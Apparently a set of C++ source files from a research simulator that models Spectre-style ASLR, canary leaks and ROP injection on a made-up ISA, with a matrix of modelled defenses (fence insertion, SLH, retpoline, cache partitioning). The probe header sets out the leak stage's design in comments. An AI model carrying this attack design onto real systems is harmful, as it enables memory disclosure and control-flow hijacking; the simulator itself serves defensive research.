/// name → member table over every HardenSummary counter, in publish order —
/// the single source of truth shared by publish(), total_events(),
/// accumulate() and the harden sweep's metrics CSV.
struct HardenSummaryField {
  const char* name;
  std::uint64_t HardenSummary::* member;
};
const std::vector<HardenSummaryField>& summary_fields();

/// Adds every counter of `from` into `into` (sweep-cell aggregation).
void accumulate(HardenSummary& into, const HardenSummary& from);

/// Collects the (config-masked) summary for one finished run.
HardenSummary summarize(const sim::Kernel& kernel, const HardenConfig& config);

}  // namespace crs::harden
