// Speculative probing of a hardened host's randomized layout.
//
// Models the BlindSide-style leak stage (Mambretti et al., PAPERS.md): an
// attacker who hijacked the entry of a hardened process cannot dereference
// ASLR candidates architecturally — one unmapped guess kills the process —
// but a *transient* dereference behind a mistrained bounds check squashes
// silently on a fault and fills a flush+reload probe line on a hit. The
// generated probe binary runs on the victim's own stack (Kernel::
// start_probe) and leaks, in order:
//
//   1. image base — for each page-aligned ASLR delta candidate it
//      transiently loads two known witness bytes of the victim's public
//      binary at (link-time address + candidate) and flush+reloads exactly
//      the two probe lines those byte values select; both hot ⇒ the
//      candidate is the real delta. Unmapped candidates squash without a
//      fill; requiring two distinct witness bytes kills coincidental
//      matches. The scan is in ascending candidate order, first match wins
//      — fully deterministic.
//   2. canary — eight classic Spectre-PHT byte leaks of the victim's
//      `__canary` slot at its now-derandomized address.
//   3. stack base — read architecturally: the hijacked entry *is* the
//      victim's context, so the probe's own entry sp is the victim's.
//
// The probe SYS_WRITEs a fixed 24-byte record {delta, canary, sp} (LE) and
// exits; parse_probe_output turns it into a ProbeLeak that parameterizes
// the ROP injection (rop::patch_payload_for_leak).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "sim/kernel.hpp"
#include "sim/program.hpp"

namespace crs::harden {

struct ProbeConfig {
  /// Two witness bytes of the victim's public image: link-time absolute
  /// addresses and the (distinct, nonzero) byte values there. Chosen by
  /// probe_config_for from bytes no relocation rewrites.
  std::uint64_t witness_addr[2] = {0, 0};
  std::uint8_t witness_byte[2] = {0, 0};

  /// Link-time address of the victim's `__canary` slot; 0 = skip stage 2.
  std::uint64_t canary_addr = 0;

  /// Bytes of delta space to scan (kernel aslr_range when ASLR is on, one
  /// page — the single candidate 0 — when it is off).
  std::uint64_t scan_range = 4096;
  std::uint64_t page_size = 4096;

  std::uint32_t threshold = 60;  ///< hot-line cutoff, cycles
  int train_iterations = 8;      ///< PHT mistraining calls per window

  /// The probe's own link base: clear of the victim window (0x10000 +
  /// 4 MiB ASLR range) and the injected attack image (0x300000 + range).
  std::uint64_t link_base = 0x500000;
  std::string name = "spec_probe";
};

/// What the probe leaked, parsed from its output record.
struct ProbeLeak {
  bool found_base = false;        ///< base scan hit a candidate
  std::uint64_t base_delta = 0;   ///< victim image load delta
  std::uint64_t canary = 0;       ///< leaked canary value (0 if skipped)
  std::uint64_t stack_pointer = 0;  ///< victim entry sp
};

/// Builds a ProbeConfig against `victim` (the registered host program):
/// witness bytes from its executable segment avoiding relocated spans,
/// canary stage iff the image declares `__canary` and `leak_canary`, scan
/// range from the kernel's ASLR settings.
ProbeConfig probe_config_for(const sim::Program& victim,
                             const sim::KernelConfig& kernel,
                             bool leak_canary);

/// Assembly source of the probe binary (inspectable / disassemblable).
std::string generate_probe_source(const ProbeConfig& config);

/// Assembled probe binary ready for Kernel::register_binary.
sim::Program build_probe_binary(const ProbeConfig& config);

/// Parses the probe's 24-byte output record. Returns found_base = false
/// when the record is short or the scan wrote its not-found sentinel.
ProbeLeak parse_probe_output(const std::vector<std::uint8_t>& output);

}  // namespace crs::harden
