// Composable speculative-execution mitigations (paper §V context).
//
// The simulator models an undefended machine by default; this library turns
// on the defenses a real deployment would field against Spectre-style
// transient execution, so the attack-vs-defense matrix (tools/crs_matrix)
// can show which modeled defense stops which attack:
//
//  * fence_bounds     — an LFENCE-after-bounds-check hardening pass
//                       (Kiriansky & Waldspurger's "fence on the
//                       mispredictable path"): a load-time pass plants
//                       speculation-barrier hints on conditional branches
//                       fed by a compare, and the CPU refuses to speculate
//                       past a hinted branch.
//  * slh              — speculative load hardening: wrong-path load results
//                       are masked to zero so they cannot form flush+reload
//                       probe addresses (LLVM SLH semantics: the fill of
//                       the first load happens, the dependent access is
//                       poisoned).
//  * retpoline        — no speculation on indirect control flow: indirect
//                       jumps/calls and returns wait for their target
//                       instead of consulting the BTB/RSB.
//  * flush_predictors — Ward-style context-switch hygiene: PHT/BTB/RSB are
//                       flushed on every kernel entry (syscall/execve).
//  * flush_l1         — L1 flush on kernel entry (the L1TF-era hammer).
//  * partition_cache  — way-partitioned L1D/L2: victim-image lines and
//                       attacker/stack lines live in disjoint way groups so
//                       neither side can evict the other's lines.
//  * ward_split       — Ward's unmapped-secret design: while an execve'd
//                       (injected) binary runs, the host image's data pages
//                       are unmapped, so even a transient read of the host
//                       secret faults and squashes without a cache fill.
//
// A MitigationConfig is a plain flag set with named presets, a parse /
// serialize round-trip, an `apply` that lowers the flags onto the sim-layer
// configs, and an `arm` that installs the runtime pieces (the fence pass and
// the partition boundary) on a Kernel via its load hook.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "sim/kernel.hpp"

namespace crs::mitigate {

struct MitigationConfig {
  bool fence_bounds = false;
  bool slh = false;
  bool retpoline = false;
  bool flush_predictors = false;
  bool flush_l1 = false;
  bool partition_cache = false;
  bool ward_split = false;

  bool operator==(const MitigationConfig&) const = default;

  /// True when at least one mitigation is on.
  bool any() const;

  /// Canonical text form: the preset name when the flag set matches a named
  /// preset exactly, otherwise a comma-joined flag list ("slh,retpoline").
  /// The empty set serializes to "none".
  std::string serialize() const;

  /// Inverse of serialize: accepts a preset name or a comma-joined flag
  /// list. Throws crs::Error listing the valid presets and flags on any
  /// unknown token.
  static MitigationConfig parse(const std::string& text);

  /// Lowers the flags onto the hardware/kernel configs. Call before
  /// constructing the Machine/Kernel.
  void apply(sim::MachineConfig& machine, sim::KernelConfig& kernel) const;
};

/// Named presets, in display order: none, lfence-bounds, slh, retpoline,
/// flush-on-switch, partition, ward-split, full.
const std::vector<std::string>& preset_names();

/// Flag set of a named preset; throws crs::Error (listing valid names) for
/// an unknown one.
MitigationConfig preset(const std::string& name);

/// Cumulative statistics of the load-time fence-insertion pass.
struct FencePassStats {
  std::uint64_t pages_scanned = 0;    ///< executable pages visited
  std::uint64_t branches_scanned = 0; ///< conditional branches inspected
  std::uint64_t fences_planted = 0;   ///< barrier hints written
};

/// Handle returned by arm(): owns the fence-pass statistics accumulated by
/// the kernel's load hook. Keep it alive as long as the kernel may load.
struct Armed {
  std::shared_ptr<FencePassStats> fence_stats =
      std::make_shared<FencePassStats>();
};

/// Installs the runtime half of the mitigations on `kernel`: a load hook
/// that (a) runs the fence-insertion pass over every image the kernel maps
/// or rewrites and (b) pins the cache-partition boundary at the end of the
/// first (victim) image. No-op hook when no armed mitigation needs one.
Armed arm(sim::Kernel& kernel, const MitigationConfig& config);

/// Everything the mitigations did in one run, folded from the CPU, kernel,
/// cache hierarchy and fence-pass counters. Plain struct so the defense
/// matrix stays meaningful with CRSPECTRE_OBS off.
struct MitigationSummary {
  std::uint64_t fence_pages_scanned = 0;
  std::uint64_t fences_planted = 0;
  std::uint64_t fence_stalls = 0;
  std::uint64_t fence_squashes = 0;
  std::uint64_t slh_hardened_loads = 0;
  std::uint64_t slh_masked_loads = 0;
  std::uint64_t retpoline_suppressions = 0;
  std::uint64_t predictor_flushes = 0;
  std::uint64_t predictor_entries_flushed = 0;
  std::uint64_t l1_flushes = 0;
  std::uint64_t l1_lines_flushed = 0;
  std::uint64_t partition_fills = 0;
  std::uint64_t partition_blocked_evictions = 0;
  std::uint64_t ward_lockouts = 0;
  std::uint64_t ward_pages_locked = 0;

  /// Total mitigation activity — the matrix's "did the defense actually
  /// engage" column.
  std::uint64_t total_events() const;

  /// Adds every field into the MetricsRegistry under `<prefix>.*` (no-op
  /// when CRS_OBS_ENABLED is 0). Call once per run, like publish_metrics.
  void publish(const std::string& prefix) const;
};

/// name → member table over every MitigationSummary counter, in publish
/// order. Shared by publish(), total_events(), accumulate() and the defense
/// matrix's metrics CSV, so the field list exists in exactly one place.
struct SummaryField {
  const char* name;
  std::uint64_t MitigationSummary::* member;
};
const std::vector<SummaryField>& summary_fields();

/// Adds every counter of `from` into `into` (matrix-cell aggregation).
void accumulate(MitigationSummary& into, const MitigationSummary& from);

/// Collects the summary for one finished run.
MitigationSummary summarize(const sim::Machine& machine,
                            const sim::Kernel& kernel, const Armed& armed);

}  // namespace crs::mitigate
