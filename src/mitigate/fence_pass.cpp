#include "mitigate/fence_pass.hpp"

#include <algorithm>
#include <array>
#include <span>

#include "isa/isa.hpp"

namespace crs::mitigate {

namespace {

bool is_compare(isa::Opcode op) {
  return op == isa::Opcode::kCmpLt || op == isa::Opcode::kCmpLtu ||
         op == isa::Opcode::kCmpEq || op == isa::Opcode::kCmpNe;
}

/// Shared scan over one contiguous run of instruction slots. `read` yields
/// the 8 bytes at slot index i; `plant` rewrites the rd byte of slot i.
template <typename ReadFn, typename PlantFn>
void scan_slots(std::uint64_t slot_count, FencePassStats& stats,
                const ReadFn& read, const PlantFn& plant) {
  // last_def[r] = most recent slot index whose instruction wrote r with a
  // compare result; kNone when r is not (or no longer) a live compare flag.
  constexpr std::uint64_t kNone = ~0ull;
  std::array<std::uint64_t, isa::kNumRegisters> compare_def;
  compare_def.fill(kNone);

  for (std::uint64_t i = 0; i < slot_count; ++i) {
    const auto decoded = isa::decode(read(i));
    if (!decoded.has_value()) {
      // Non-instruction bytes (data in an exec page): nothing carries over.
      compare_def.fill(kNone);
      continue;
    }
    const isa::Instruction& instr = *decoded;
    const isa::OpClass cls = isa::op_class(instr.op);

    if (cls == isa::OpClass::kCondBranch) {
      ++stats.branches_scanned;
      const std::uint64_t def = compare_def[instr.rs1];
      if (def != kNone && i - def <= static_cast<std::uint64_t>(kCompareWindow)
          && instr.rd != kFenceHintRd) {
        plant(i);
        ++stats.fences_planted;
      }
      continue;
    }
    // Control flow ends the linear window: a compare before a jump target
    // cannot be assumed to feed a branch after it.
    if (isa::is_control_flow(instr.op)) {
      compare_def.fill(kNone);
      continue;
    }
    if (isa::writes_rd(instr.op)) {
      compare_def[instr.rd] = is_compare(instr.op) ? i : kNone;
    }
  }
}

}  // namespace

FencePassStats insert_bounds_fences(sim::Memory& memory, std::uint64_t lo,
                                    std::uint64_t hi) {
  FencePassStats stats;
  if (hi > memory.size()) hi = memory.size();
  const std::uint64_t first_page = lo / sim::Memory::kPageSize;
  const std::uint64_t last_page =
      hi == 0 ? 0 : (hi - 1) / sim::Memory::kPageSize;

  // Scan each contiguous run of executable pages as one window so a
  // cmp/branch pair straddling a page boundary is fenced exactly as the
  // Program-based variant (which scans whole segments) would fence it.
  const auto is_exec = [&](std::uint64_t page) {
    return (memory.permissions_at(page * sim::Memory::kPageSize) &
            sim::kPermExec) != 0;
  };
  std::uint64_t page = first_page;
  while (page <= last_page && page < memory.page_count()) {
    if (!is_exec(page)) {
      ++page;
      continue;
    }
    std::uint64_t end = page;
    while (end < last_page && end + 1 < memory.page_count() &&
           is_exec(end + 1)) {
      ++end;
    }
    stats.pages_scanned += end - page + 1;
    const std::uint64_t run_lo =
        std::max(lo, page * sim::Memory::kPageSize);
    const std::uint64_t run_hi =
        std::min(hi, (end + 1) * sim::Memory::kPageSize);
    const std::uint64_t base =
        (run_lo + isa::kInstructionSize - 1) & ~(isa::kInstructionSize - 1);
    if (base + isa::kInstructionSize <= run_hi) {
      const std::uint64_t slots = (run_hi - base) / isa::kInstructionSize;
      scan_slots(
          slots, stats,
          [&](std::uint64_t i) {
            return memory.read_span(base + i * isa::kInstructionSize,
                                    isa::kInstructionSize);
          },
          [&](std::uint64_t i) {
            // Byte 1 of the encoding is rd; write_u8 bumps the page version,
            // which invalidates any pre-decoded slots for this page.
            memory.write_u8(base + i * isa::kInstructionSize + 1,
                            kFenceHintRd);
          });
    }
    page = end + 1;
  }
  return stats;
}

FencePassStats insert_bounds_fences(sim::Program& program) {
  FencePassStats stats;
  for (sim::Segment& seg : program.segments) {
    if ((seg.perm & sim::kPermExec) == 0) continue;
    stats.pages_scanned +=
        (seg.bytes.size() + sim::Memory::kPageSize - 1) /
        sim::Memory::kPageSize;
    const std::uint64_t slots = seg.bytes.size() / isa::kInstructionSize;
    scan_slots(
        slots, stats,
        [&](std::uint64_t i) {
          return std::span<const std::uint8_t>(seg.bytes)
              .subspan(i * isa::kInstructionSize, isa::kInstructionSize);
        },
        [&](std::uint64_t i) {
          seg.bytes[i * isa::kInstructionSize + 1] = kFenceHintRd;
        });
  }
  return stats;
}

}  // namespace crs::mitigate
