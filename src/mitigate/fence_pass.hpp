// Fence-insertion hardening pass.
//
// Models "LFENCE after every mispredictable bounds check" (Kiriansky &
// Waldspurger; Intel's guidance for Spectre v1) without moving code: the
// rd byte of a conditional branch is architecturally unused (beqz/bnez read
// only rs1), so the pass rewrites it to a non-zero *fence hint* in place.
// Absolute branch targets, gadget addresses and symbol layout are all
// preserved — exactly what a binary-patching hardening tool needs.
//
// The CPU honors hints only when CpuConfig::honor_fence_hints is set, so an
// un-hardened machine executes a hinted image bit-identically.
//
// Targeting: a branch gets a hint when its condition register was produced
// by a compare (cmplt/cmpltu/cmpeq/cmpne) at most `kCompareWindow`
// instructions earlier with no intervening redefinition — the
// `cmpltu r5, idx, len ; beqz r5, ...` bounds-check shape the Spectre-PHT
// gadget uses, and the loop-guard shape real compilers emit (fencing loop
// guards is what makes the hardening's IPC overhead honest).
//
// Writes go through Memory::write_u8, which bumps the page version, so the
// pre-decoded instruction cache refreshes itself before the next fetch from
// a rewritten page (regression-tested in tests/test_mitigate.cpp).
#pragma once

#include <cstdint>

#include "sim/memory.hpp"
#include "sim/program.hpp"

#include "mitigate/config.hpp"

namespace crs::mitigate {

/// Compare-to-branch distance (in instructions) the pass considers a bounds
/// check. Small on purpose: hint the `cmp ; branch` idiom, not every branch.
inline constexpr int kCompareWindow = 4;

/// Byte value planted in the branch's rd field as the fence hint.
inline constexpr std::uint8_t kFenceHintRd = 1;

/// Scans executable pages overlapping [lo, hi) in `memory` and plants fence
/// hints on bounds-check branches. Returns what it did.
FencePassStats insert_bounds_fences(sim::Memory& memory, std::uint64_t lo,
                                    std::uint64_t hi);

/// Pre-load variant: hardens the executable segments of an assembled
/// program in place (the "assembler pass" form, used by tests and by
/// callers that want a hardened image before it is ever mapped).
FencePassStats insert_bounds_fences(sim::Program& program);

}  // namespace crs::mitigate
