#include "mitigate/config.hpp"

#include <algorithm>
#include <utility>

#include "mitigate/fence_pass.hpp"
#include "obs/metrics.hpp"
#include "support/error.hpp"
#include "support/strings.hpp"

namespace crs::mitigate {

namespace {

struct FlagSpec {
  const char* token;
  bool MitigationConfig::* member;
};

constexpr FlagSpec kFlags[] = {
    {"fence-bounds", &MitigationConfig::fence_bounds},
    {"slh", &MitigationConfig::slh},
    {"retpoline", &MitigationConfig::retpoline},
    {"flush-predictors", &MitigationConfig::flush_predictors},
    {"flush-l1", &MitigationConfig::flush_l1},
    {"partition", &MitigationConfig::partition_cache},
    {"ward", &MitigationConfig::ward_split},
};

struct PresetSpec {
  const char* name;
  MitigationConfig config;
};

const std::vector<PresetSpec>& presets() {
  static const std::vector<PresetSpec> kPresets = [] {
    std::vector<PresetSpec> p;
    p.push_back({"none", {}});
    {
      MitigationConfig c;
      c.fence_bounds = true;
      p.push_back({"lfence-bounds", c});
    }
    {
      MitigationConfig c;
      c.slh = true;
      p.push_back({"slh", c});
    }
    {
      MitigationConfig c;
      c.retpoline = true;
      p.push_back({"retpoline", c});
    }
    {
      MitigationConfig c;
      c.flush_predictors = true;
      c.flush_l1 = true;
      p.push_back({"flush-on-switch", c});
    }
    {
      MitigationConfig c;
      c.partition_cache = true;
      p.push_back({"partition", c});
    }
    {
      // Ward's design: secrets unmapped while untrusted code runs, plus
      // predictor hygiene on every kernel crossing.
      MitigationConfig c;
      c.ward_split = true;
      c.flush_predictors = true;
      p.push_back({"ward-split", c});
    }
    {
      MitigationConfig c;
      for (const auto& f : kFlags) c.*(f.member) = true;
      p.push_back({"full", c});
    }
    return p;
  }();
  return kPresets;
}

std::string valid_tokens_message() {
  std::string msg = "valid presets: ";
  for (std::size_t i = 0; i < presets().size(); ++i) {
    if (i != 0) msg += ", ";
    msg += presets()[i].name;
  }
  msg += "; valid flags: ";
  for (std::size_t i = 0; i < std::size(kFlags); ++i) {
    if (i != 0) msg += ", ";
    msg += kFlags[i].token;
  }
  return msg;
}

}  // namespace

bool MitigationConfig::any() const {
  for (const auto& f : kFlags) {
    if (this->*(f.member)) return true;
  }
  return false;
}

std::string MitigationConfig::serialize() const {
  for (const auto& p : presets()) {
    if (p.config == *this) return p.name;
  }
  std::string out;
  for (const auto& f : kFlags) {
    if (!(this->*(f.member))) continue;
    if (!out.empty()) out += ',';
    out += f.token;
  }
  return out.empty() ? "none" : out;
}

MitigationConfig MitigationConfig::parse(const std::string& text) {
  const std::string trimmed{trim(text)};
  for (const auto& p : presets()) {
    if (trimmed == p.name) return p.config;
  }
  MitigationConfig config;
  for (const std::string& raw : split(trimmed, ',')) {
    const std::string token{trim(raw)};
    bool known = false;
    for (const auto& f : kFlags) {
      if (token == f.token) {
        config.*(f.member) = true;
        known = true;
        break;
      }
    }
    if (!known) {
      throw Error("unknown mitigation '" + token + "' (" +
                  valid_tokens_message() + ")");
    }
  }
  return config;
}

void MitigationConfig::apply(sim::MachineConfig& machine,
                             sim::KernelConfig& kernel) const {
  if (fence_bounds) machine.cpu.honor_fence_hints = true;
  if (slh) machine.cpu.slh = true;
  if (retpoline) machine.cpu.no_indirect_speculation = true;
  if (flush_predictors) kernel.flush_predictors_on_switch = true;
  if (flush_l1) kernel.flush_l1_on_switch = true;
  if (partition_cache) {
    // Half the ways for the victim image, half for everything else.
    machine.hierarchy.l1d.partition_ways = machine.hierarchy.l1d.ways / 2;
    machine.hierarchy.l2.partition_ways = machine.hierarchy.l2.ways / 2;
  }
  if (ward_split) kernel.ward_split = true;
}

const std::vector<std::string>& preset_names() {
  static const std::vector<std::string> kNames = [] {
    std::vector<std::string> names;
    for (const auto& p : presets()) names.emplace_back(p.name);
    return names;
  }();
  return kNames;
}

MitigationConfig preset(const std::string& name) {
  for (const auto& p : presets()) {
    if (name == p.name) return p.config;
  }
  throw Error("unknown mitigation preset '" + name + "' (" +
              valid_tokens_message() + ")");
}

Armed arm(sim::Kernel& kernel, const MitigationConfig& config) {
  Armed armed;
  if (!config.fence_bounds && !config.partition_cache) return armed;
  auto stats = armed.fence_stats;
  const bool fence = config.fence_bounds;
  const bool partition = config.partition_cache;
  kernel.set_load_hook([stats, fence, partition](sim::Machine& machine,
                                                 const sim::LoadInfo& info,
                                                 bool first_image) {
    if (fence) {
      const FencePassStats s =
          insert_bounds_fences(machine.memory(), info.lo, info.hi);
      stats->pages_scanned += s.pages_scanned;
      stats->branches_scanned += s.branches_scanned;
      stats->fences_planted += s.fences_planted;
    }
    if (partition && first_image) {
      // Victim domain = the first (host/main) image; everything mapped
      // later — the injected attack, the stacks — shares the other ways.
      machine.hierarchy().set_partition_boundary(info.hi);
    }
  });
  return armed;
}

const std::vector<SummaryField>& summary_fields() {
  static const std::vector<SummaryField> kFields = {
      {"fence.pages_scanned", &MitigationSummary::fence_pages_scanned},
      {"fence.planted", &MitigationSummary::fences_planted},
      {"fence.stalls", &MitigationSummary::fence_stalls},
      {"fence.squashes", &MitigationSummary::fence_squashes},
      {"slh.hardened_loads", &MitigationSummary::slh_hardened_loads},
      {"slh.masked_loads", &MitigationSummary::slh_masked_loads},
      {"retpoline.suppressions", &MitigationSummary::retpoline_suppressions},
      {"flush.predictor_flushes", &MitigationSummary::predictor_flushes},
      {"flush.predictor_entries",
       &MitigationSummary::predictor_entries_flushed},
      {"flush.l1_flushes", &MitigationSummary::l1_flushes},
      {"flush.l1_lines", &MitigationSummary::l1_lines_flushed},
      {"partition.fills", &MitigationSummary::partition_fills},
      {"partition.blocked_evictions",
       &MitigationSummary::partition_blocked_evictions},
      {"ward.lockouts", &MitigationSummary::ward_lockouts},
      {"ward.pages_locked", &MitigationSummary::ward_pages_locked},
  };
  return kFields;
}

void accumulate(MitigationSummary& into, const MitigationSummary& from) {
  for (const SummaryField& f : summary_fields()) {
    into.*(f.member) += from.*(f.member);
  }
}

std::uint64_t MitigationSummary::total_events() const {
  std::uint64_t total = 0;
  for (const SummaryField& f : summary_fields()) total += this->*(f.member);
  return total;
}

void MitigationSummary::publish(const std::string& prefix) const {
  if constexpr (!obs::kEnabled) return;
  auto& reg = obs::MetricsRegistry::instance();
  for (const SummaryField& f : summary_fields()) {
    reg.counter(prefix + "." + f.name).add(this->*(f.member));
  }
}

MitigationSummary summarize(const sim::Machine& machine,
                            const sim::Kernel& kernel, const Armed& armed) {
  MitigationSummary s;
  s.fence_pages_scanned = armed.fence_stats->pages_scanned;
  s.fences_planted = armed.fence_stats->fences_planted;
  const sim::CpuMitigationStats& cpu = machine.cpu().mitigation_stats();
  s.fence_stalls = cpu.fence_stalls;
  s.fence_squashes = cpu.fence_squashes;
  s.slh_hardened_loads = cpu.slh_hardened_loads;
  s.slh_masked_loads = cpu.slh_masked_loads;
  s.retpoline_suppressions = cpu.retpoline_suppressions;
  const sim::KernelMitigationStats& k = kernel.mitigation_stats();
  s.predictor_flushes = k.predictor_flushes;
  s.predictor_entries_flushed = k.predictor_entries_flushed;
  s.l1_flushes = k.l1_flushes;
  s.l1_lines_flushed = k.l1_lines_flushed;
  s.ward_lockouts = k.ward_lockouts;
  s.ward_pages_locked = k.ward_pages_locked;
  const auto add_level = [&](const sim::CacheLevelStats& stats) {
    s.partition_fills += stats.partition_fills;
    s.partition_blocked_evictions += stats.partition_blocked;
  };
  add_level(machine.hierarchy().l1d().stats());
  add_level(machine.hierarchy().l2().stats());
  return s;
}

}  // namespace crs::mitigate
