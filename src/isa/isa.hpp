// Instruction set of the simulated machine.
//
// The reproduction needs a machine whose *code lives in simulated memory as
// bytes*, because the ROP pipeline (paper §II-C) scans executable pages for
// `ret`-terminated instruction sequences exactly as the authors did with GDB
// on x86 binaries. We therefore define a compact RISC-style ISA with a fixed
// 8-byte little-endian encoding:
//
//   byte 0   opcode
//   byte 1   rd   (destination register)
//   byte 2   rs1  (first source register)
//   byte 3   rs2  (second source register)
//   bytes 4-7  imm (signed 32-bit immediate / absolute branch target)
//
// There are 16 general-purpose 64-bit registers r0..r15; by convention r15
// is the stack pointer (`sp`). CALL pushes the return address on the stack
// and RET pops it — the property the buffer-overflow + ROP chain exploits.
// CLFLUSH/MFENCE/RDCYCLE expose the cache side channel, mirroring the
// user-mode x86 instructions the paper's attack and Algorithm 2 rely on.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>

namespace crs::isa {

inline constexpr std::size_t kInstructionSize = 8;
inline constexpr int kNumRegisters = 16;
inline constexpr int kStackPointer = 15;  ///< r15 doubles as `sp`.

enum class Opcode : std::uint8_t {
  kNop = 0,
  kHalt,

  // Data movement.
  kMovImm,  ///< rd = sign_extend(imm)
  kMov,     ///< rd = rs1

  // Register-register ALU.
  kAdd,
  kSub,
  kMul,
  kDivu,  ///< unsigned divide; divide-by-zero yields all-ones (no fault)
  kRemu,
  kAnd,
  kOr,
  kXor,
  kShl,  ///< shift amount masked to 6 bits
  kShr,  ///< logical
  kSar,  ///< arithmetic

  // Register-immediate ALU.
  kAddImm,
  kMulImm,
  kAndImm,
  kOrImm,
  kXorImm,
  kShlImm,
  kShrImm,

  // Comparisons producing 0/1 in rd.
  kCmpLt,   ///< signed rs1 < rs2
  kCmpLtu,  ///< unsigned rs1 < rs2
  kCmpEq,
  kCmpNe,

  // Memory. Effective address = rs1 + imm.
  kLoad,    ///< rd = mem64[ea]
  kLoadB,   ///< rd = zero_extend(mem8[ea])
  kStore,   ///< mem64[ea] = rs2
  kStoreB,  ///< mem8[ea] = rs2 & 0xff

  // Control flow. Branch/jump/call targets are absolute addresses in imm.
  kBeqz,  ///< if rs1 == 0 goto imm
  kBnez,  ///< if rs1 != 0 goto imm
  kJmp,
  kJmpReg,   ///< pc = rs1 (indirect jump; predicted via BTB)
  kCall,     ///< push(pc + 8); pc = imm
  kCallReg,  ///< push(pc + 8); pc = rs1
  kRet,      ///< pc = pop()  (predicted via return stack buffer)

  // Stack.
  kPush,  ///< sp -= 8; mem64[sp] = rs1
  kPop,   ///< rd = mem64[sp]; sp += 8

  // Micro-architectural instructions used by Spectre and Algorithm 2.
  kClflush,  ///< evict line containing rs1 + imm from all cache levels
  kMfence,   ///< drain outstanding loads (serialises the scoreboard)
  kRdCycle,  ///< rd = current cycle count

  kSyscall,  ///< number in r0, args in r1..r3, result in r0

  kOpcodeCount,  // sentinel
};

/// Coarse behavioural class; used by the CPU dispatch, the gadget scanner
/// and the PMU event attribution.
enum class OpClass : std::uint8_t {
  kNop,
  kHalt,
  kAlu,
  kLoad,
  kStore,
  kCondBranch,
  kJump,
  kIndirectJump,
  kCall,
  kIndirectCall,
  kRet,
  kPush,
  kPop,
  kFlush,
  kFence,
  kRdCycle,
  kSyscall,
};

struct Instruction {
  Opcode op = Opcode::kNop;
  std::uint8_t rd = 0;
  std::uint8_t rs1 = 0;
  std::uint8_t rs2 = 0;
  std::int32_t imm = 0;

  bool operator==(const Instruction&) const = default;
};

/// Encodes into the fixed 8-byte format.
std::array<std::uint8_t, kInstructionSize> encode(const Instruction& instr);

/// Decodes 8 bytes; returns nullopt for an illegal opcode or register index.
/// The gadget scanner relies on this to skip non-instruction bytes.
std::optional<Instruction> decode(std::span<const std::uint8_t> bytes);

OpClass op_class(Opcode op);

/// Mnemonic, e.g. "add".
std::string_view mnemonic(Opcode op);

/// Parses a mnemonic; nullopt when unknown.
std::optional<Opcode> opcode_from_mnemonic(std::string_view name);

/// "r0".."r14" or "sp" for r15.
std::string_view register_name(int reg);

/// Accepts "r0".."r15" and "sp"; nullopt when unknown.
std::optional<int> register_from_name(std::string_view name);

/// Human-readable form, e.g. "load r3, [r1+16]".
std::string disassemble(const Instruction& instr);

/// True when the opcode reads rs1 / rs2 / writes rd. Used by the CPU's
/// scoreboard and by gadget classification.
bool reads_rs1(Opcode op);
bool reads_rs2(Opcode op);
bool writes_rd(Opcode op);

/// True for instructions that may redirect control flow.
bool is_control_flow(Opcode op);

}  // namespace crs::isa
