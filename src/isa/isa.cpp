#include "isa/isa.hpp"

#include <cstring>

#include "support/error.hpp"
#include "support/strings.hpp"

namespace crs::isa {

namespace {

struct OpInfo {
  Opcode op;
  std::string_view name;
  OpClass cls;
  bool reads_rs1;
  bool reads_rs2;
  bool writes_rd;
};

// Keep in Opcode order; validated by op_info().
constexpr OpInfo kOpTable[] = {
    {Opcode::kNop, "nop", OpClass::kNop, false, false, false},
    {Opcode::kHalt, "halt", OpClass::kHalt, false, false, false},
    {Opcode::kMovImm, "movi", OpClass::kAlu, false, false, true},
    {Opcode::kMov, "mov", OpClass::kAlu, true, false, true},
    {Opcode::kAdd, "add", OpClass::kAlu, true, true, true},
    {Opcode::kSub, "sub", OpClass::kAlu, true, true, true},
    {Opcode::kMul, "mul", OpClass::kAlu, true, true, true},
    {Opcode::kDivu, "divu", OpClass::kAlu, true, true, true},
    {Opcode::kRemu, "remu", OpClass::kAlu, true, true, true},
    {Opcode::kAnd, "and", OpClass::kAlu, true, true, true},
    {Opcode::kOr, "or", OpClass::kAlu, true, true, true},
    {Opcode::kXor, "xor", OpClass::kAlu, true, true, true},
    {Opcode::kShl, "shl", OpClass::kAlu, true, true, true},
    {Opcode::kShr, "shr", OpClass::kAlu, true, true, true},
    {Opcode::kSar, "sar", OpClass::kAlu, true, true, true},
    {Opcode::kAddImm, "addi", OpClass::kAlu, true, false, true},
    {Opcode::kMulImm, "muli", OpClass::kAlu, true, false, true},
    {Opcode::kAndImm, "andi", OpClass::kAlu, true, false, true},
    {Opcode::kOrImm, "ori", OpClass::kAlu, true, false, true},
    {Opcode::kXorImm, "xori", OpClass::kAlu, true, false, true},
    {Opcode::kShlImm, "shli", OpClass::kAlu, true, false, true},
    {Opcode::kShrImm, "shri", OpClass::kAlu, true, false, true},
    {Opcode::kCmpLt, "cmplt", OpClass::kAlu, true, true, true},
    {Opcode::kCmpLtu, "cmpltu", OpClass::kAlu, true, true, true},
    {Opcode::kCmpEq, "cmpeq", OpClass::kAlu, true, true, true},
    {Opcode::kCmpNe, "cmpne", OpClass::kAlu, true, true, true},
    {Opcode::kLoad, "load", OpClass::kLoad, true, false, true},
    {Opcode::kLoadB, "loadb", OpClass::kLoad, true, false, true},
    {Opcode::kStore, "store", OpClass::kStore, true, true, false},
    {Opcode::kStoreB, "storeb", OpClass::kStore, true, true, false},
    {Opcode::kBeqz, "beqz", OpClass::kCondBranch, true, false, false},
    {Opcode::kBnez, "bnez", OpClass::kCondBranch, true, false, false},
    {Opcode::kJmp, "jmp", OpClass::kJump, false, false, false},
    {Opcode::kJmpReg, "jmpr", OpClass::kIndirectJump, true, false, false},
    {Opcode::kCall, "call", OpClass::kCall, false, false, false},
    {Opcode::kCallReg, "callr", OpClass::kIndirectCall, true, false, false},
    {Opcode::kRet, "ret", OpClass::kRet, false, false, false},
    {Opcode::kPush, "push", OpClass::kPush, true, false, false},
    {Opcode::kPop, "pop", OpClass::kPop, false, false, true},
    {Opcode::kClflush, "clflush", OpClass::kFlush, true, false, false},
    {Opcode::kMfence, "mfence", OpClass::kFence, false, false, false},
    {Opcode::kRdCycle, "rdcycle", OpClass::kRdCycle, false, false, true},
    {Opcode::kSyscall, "syscall", OpClass::kSyscall, false, false, false},
};

static_assert(std::size(kOpTable) ==
